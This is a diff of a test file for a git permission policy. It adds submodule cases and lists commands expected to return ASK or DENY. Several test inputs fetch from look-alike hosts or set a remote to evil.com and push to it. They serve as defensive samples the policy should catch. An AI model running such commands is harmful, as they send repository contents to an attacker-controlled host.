@@ -45,6 +45,8 @@ describe("github: only GitHub hosts name GitHub repositories", () => {
     [{}, "git fetch https://evil-github.com/owner/repo", "ASK"],
     [{}, "git ls-remote git@evil-github.com:owner/repo", "ASK"],
     [{}, "gh repo view evil.com/owner/repo", "ASK"],
+    [{}, "git submodule add https://evil.com/owner/repo vendor/x", "ASK"],
+    [{ read_repos: ["owner/*"] }, "git submodule add -b main https://github.com/other/x vendor/x", "DENY"],
     // remotes defined or redirected in the same script
     [{}, "git remote add e https://evil.com/owner/repo && git push e main", "DENY"],
     [WRITE, "git remote set-url --push origin https://evil.com/x; git push origin main", "DENY"],
